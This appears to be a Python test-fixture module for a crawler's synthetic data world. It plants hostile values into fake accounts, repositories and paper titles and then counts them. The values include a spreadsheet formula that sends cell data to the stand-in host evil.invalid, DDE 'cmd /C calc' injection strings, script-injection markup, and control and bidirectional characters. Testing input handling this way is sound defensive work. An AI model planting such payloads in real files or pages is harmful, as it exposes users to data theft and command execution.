"""Hostile and awkward values, put into a finished world on purpose and counted, so that tests can ask for
them.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import replace

from crawlers.sample_world.hub_model import HubGraph
from crawlers.sample_world.model import HubAccount, HubRepo, Person, Work
from crawlers.sample_world.rng import hex_id, stream
from crawlers.sample_world.venues import VENUES

FORMULA = '=HYPERLINK("https://evil.invalid/?x="&A1,"Open profile")'
MARKUP = '<img src=x onerror="alert(1)"><script>alert("sample")</script> & more'
CONTROLS = "vision\u0007 and\u001b[31m language\u0000 models\r\nsecond line\ttab"
BIDI = "\u202eelbisrever\u202c \u200fمرحبا\u200e"
ADDRESS = "reach me at hidden.person@mail.example.org or hidden (at) mail.example.invalid"
ORCID_TEXT = "0009-0090-0000-0008"


def _hostile_accounts(seed: int) -> list[HubAccount]:
    r = stream(seed, "hostile")
    rows = (
        ("formula", FORMULA, "+1+cmd|' /C calc'!A0"),
        ("markup", MARKUP, MARKUP),
        ("controls", "Control Character", CONTROLS),
        ("bidi", BIDI, "right-to-left \u200f marks"),
        ("long", "Verylongname " * 800, "a name of ten kilobytes"),
        ("address", "@SUM(1+1)", ADDRESS),
    )
    return [
        HubAccount(
            hex_id(r),
            f"hostile-{key}-smpl",
            "user",
            fullname,
            details,
            False,
            "2024-05-05T05:05:05.000Z",
            0,
            noise="hostile",
        )
        for key, fullname, details in rows
    ]


def accounts(seed: int, made: list[HubAccount], counts: Counter[str]) -> list[HubAccount]:
    """Add hostile accounts; put an e-mail into one person's profile text."""
    hostile = _hostile_accounts(seed)
    counts.update({f"hub_text_{a.name[8:-5]}": 1 for a in hostile})
    out = list(made)
    for i, account in enumerate(out):
        if (
            account.person
            and account.details
            and account.state == "active"
            and "recruiters" not in account.details
        ):
            out[i] = replace(account, details=f"{account.details} Mail: someone.else@example.org")
            counts["hub_bio_email"] += 1
            break
    counts["hub_account_deleted"] = sum(a.state == "deleted" for a in out)
    counts["hub_account_renamed"] = sum(bool(a.former_names) for a in out)
    counts["no_recruiters_bio"] = sum("No recruiters" in a.details and a.state == "active" for a in out)
    return out + hostile


def repos(seed: int, made: list[HubRepo], hostile: list[HubAccount], counts: Counter[str]) -> list[HubRepo]:
    """One repository for each hostile account, so that a crawl by repository meets the account."""
    r = stream(seed, "hostile-repos")
    extra = [
        HubRepo(
            hex_id(r), "model", account.id, f"harmless-{n}", "text-generation", "transformers",
            ("=cmd|'/C calc'!A0", "<b>tag</b>", "license:mit", "region:us"), 5, 1, 0,
            "2024-05-06T05:05:05.000Z", "2024-05-07T05:05:05.000Z", noise="hostile",
        )
        for n, account in enumerate(a for a in hostile if a.noise == "hostile")
    ]  # fmt: skip
    counts["hub_repo_hostile"] = len(extra)
    for noise in ("mill", "bot", "course", "reupload"):
        counts[f"hub_repo_{noise}"] = sum(repo.noise == noise for repo in made)
    counts["hub_created_sentinel"] = sum(repo.created_at.startswith("2022-03-02T23:29:04") for repo in made)
    return made + extra


def works(made: list[Work], counts: Counter[str]) -> list[Work]:
    """Hostile titles and abstracts in the newest published papers.

    Two works of one title in different years.
    """
    out = list(made)
    last = max(w.year for w in out)
    newest = [
        i
        for i, w in enumerate(out)
        if w.status == "published" and w.year >= last - 1 and VENUES[w.venue].acl and w.authors
    ]
    title = {0: FORMULA, 1: f"{MARKUP} in Titles", 2: f"Bidirectional {BIDI} Text"}
    abstract = {
        3: "Correspondence to first.author@mail.example.org.",
        4: f"Data: doi:10.5555/sample.4711, arXiv:2401.90001, contact ORCID {ORCID_TEXT}.",
        5: "-2+3 improves; @mention; tab\there.",
    }
    for slot, value in title.items():
        out[newest[slot]] = replace(out[newest[slot]], title=value)
    for slot, value in abstract.items():
        at = newest[slot]
        out[at] = replace(out[at], abstract=f"{out[at].abstract} {value}")
    older = next(i for i, w in enumerate(out) if w.year < out[newest[6]].year and VENUES[w.venue].acl)
    out[newest[6]] = replace(out[newest[6]], title=out[older].title)
    counts.update(
        {"work_title_hostile": len(title), "work_abstract_email": 1, "work_abstract_identifiers": 1}
    )
    counts["work_same_title"] = 1
    counts["work_retracted"] = sum(w.status == "retracted" for w in out)
    counts["work_removed"] = sum(w.status == "removed" for w in out)
    counts["affiliation_email"] = sum("@" in (m.affiliation or "") for w in out for m in w.authors)
    return out


def people(made: tuple[Person, ...], counts: Counter[str]) -> None:
    """Count what the population itself was given."""
    counts["homonym_people"] = sum(p.homonym_group is not None for p in made)
    counts["mononym_people"] = sum(not p.name.given for p in made)
    counts["no_recruiters_people"] = sum(p.no_recruiters for p in made)


def reach(made: tuple[Person, ...], counts: Counter[str]) -> None:
    """Count people whom papers do not show, and those of them who are known by a login or by nothing at all."""
    silent = [p for p in made if not p.writes]
    off_hub = [p for p in silent if p.accounts.hub_user is None]
    counts["people_without_papers"] = len(silent)
    counts["people_without_papers_mlops"] = sum(p.specialty == "mlops_platform" for p in silent)
    counts["people_with_only_a_login"] = sum(p.github is not None for p in off_hub)
    counts["people_in_no_source"] = sum(p.github is None for p in off_hub)


def links(graph: HubGraph, counts: Counter[str]) -> None:
    """Count what is doubtful about the hub's links between authors and accounts."""
    every = [link for paper in graph.papers for link in paper.links]
    counts["hub_author_link"] = sum(link.account is not None for link in every)
    counts["hub_author_link_wrong"] = sum(link.account is not None and not link.true for link in every)
    counts["hub_author_hidden"] = sum(link.hidden for link in every)
    counts["hub_discussion_author_deleted"] = sum(d.account is None for d in graph.discussions)
    counts["hub_commit_plain_name"] = sum(c.account is None for c in graph.commits)
